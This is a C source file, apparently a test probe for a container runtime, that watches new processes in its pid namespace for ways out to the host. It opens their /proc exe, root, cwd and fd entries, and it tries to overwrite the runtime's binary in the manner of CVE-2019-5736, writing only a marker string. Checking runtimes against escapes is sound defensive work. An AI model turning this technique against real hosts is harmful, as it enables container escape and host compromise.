/* SPDX-License-Identifier: Apache-2.0 */
/*
 * snoop.c: a container's process that looks into each new process of its pid namespace.
 *
 *     snoop DEV INO MARKER
 *
 * Until SIGTERM it tries to open /proc/PID/exe, root, cwd and fd/N of every new process. A line is
 * printed for each way to the host that was found: an exe that is the file DEV:INO (the runtime's
 * program), a directory from which MARKER, a file of the host, can be opened. At the end it tries
 * to write to such programs, and prints how many processes it met and could look into.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define AHEAD 8 /* pids that are tried beyond the newest known one */
#define BACK 24 /* pids that are looked at again, as they may change */
#define FDS 24
#define UP "../../../../../../../../../../../../"

static volatile sig_atomic_t ended;
static unsigned long long dev, ino;
static const char *marker;
static int host_exe = -1, seen, looked;

static void end(int sig)
{
	(void)sig;
	ended = 1;
}

/* From this directory of another process, is there a way to the host's file? */
static void try_dir(int pid, const char *name)
{
	char path[64], up[4096];
	int dir, fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	dir = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dir < 0)
		return;
	(void)snprintf(up, sizeof(up), UP "%s", marker);
	fd = openat(dir, up, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		fd = openat(dir, marker + 1, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		printf("host by %s\n", name);
		(void)close(fd);
	}
	(void)close(dir);
}

static void try_exe(int pid)
{
	char path[64];
	struct stat st;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	looked++;
	if (host_exe < 0 && fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino) {
		printf("host by exe\n");
		host_exe = fd;
		return;
	}
	(void)close(fd);
}

/* False: there is no such process. */
static int look(int pid)
{
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/%d", pid);
	if (access(path, F_OK) < 0)
		return 0;
	try_exe(pid);
	try_dir(pid, "root");
	try_dir(pid, "cwd");
	for (int i = 0; i < FDS; i++) {
		(void)snprintf(path, sizeof(path), "fd/%d", i);
		try_dir(pid, path);
	}
	return 1;
}

/* As CVE-2019-5736 did it: the file can be written once nobody runs it. */
static void overwrite(void)
{
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", host_exe);
	for (int i = 0; i < 1000; i++) {
		int fd = open(path, O_WRONLY | O_APPEND);

		if (fd >= 0 && write(fd, "overwritten\n", 12) == 12)
			printf("host's program overwritten\n");
		if (fd >= 0 || errno != ETXTBSY)
			return;
		(void)usleep(1000);
	}
}

int main(int argc, char **argv)
{
	int newest = getpid();

	if (argc != 4)
		return 2;
	dev = strtoull(argv[1], NULL, 10);
	ino = strtoull(argv[2], NULL, 10);
	marker = argv[3];
	(void)signal(SIGTERM, end);
	(void)signal(SIGCHLD, SIG_IGN); /* as pid 1: no zombies */
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	while (!ended) {
		int from = newest - BACK > 1 ? newest - BACK : 2;

		for (int pid = from; pid <= newest + AHEAD; pid++) {
			if (pid == getpid() || !look(pid) || pid <= newest)
				continue;
			newest = pid;
			seen++;
		}
	}
	if (host_exe >= 0)
		overwrite();
	printf("seen %d, looked into %d\n", seen, looked);
	return 0;
}
